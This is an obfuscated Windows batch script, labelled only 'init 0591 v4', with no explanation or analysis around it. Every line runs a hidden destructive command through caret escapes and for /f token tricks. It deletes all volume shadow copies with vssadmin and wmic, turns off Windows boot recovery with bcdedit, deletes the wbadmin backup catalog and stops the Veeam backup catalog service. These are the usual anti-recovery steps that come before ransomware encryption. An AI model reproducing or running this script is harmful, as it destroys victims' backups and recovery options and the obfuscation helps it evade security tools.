REM init 0591 v4
for /^f "tokens=2 delims=~" %%i in ("aesx~vssadmin~ribu") ^d^o %%^i d^el^et^e shadows /^a^l^l /q^u^iet
fo^r /f "tokens=1 delims=~" %%^i in ("wmic~ufed~fcfi") ^d^o %%i ^s^had^ow^cop^y ^de^let^e
for /f "tokens=1 delims=;" %%i i^n ("bcdedit;gtpb;gegp") ^do %%i /set {^defau^l^t} re^co^v^er^y^en^a^b^l^e^d n^o
^for /f "tokens=1 delims=;" %%^i i^n ("bcdedit;bhdy;qjun") ^do %%i /^set {^de^fau^lt} b^oo^t^st^a^t^u^spo^l^i^c^y ^igno^re^a^ll^fail^u^re^s
for /f "tokens=1 delims=~" %%i i^n ("wbadmin~djaj~weft") d^o %%^i ^dele^te cat^a^lo^g -^qu^i^et
^for /f "tokens=3 delims=#" %%i i^n ("fwwu#ztyt#net") d^o %%^i stop "Veeam Backup Catalog Data Service" /^y
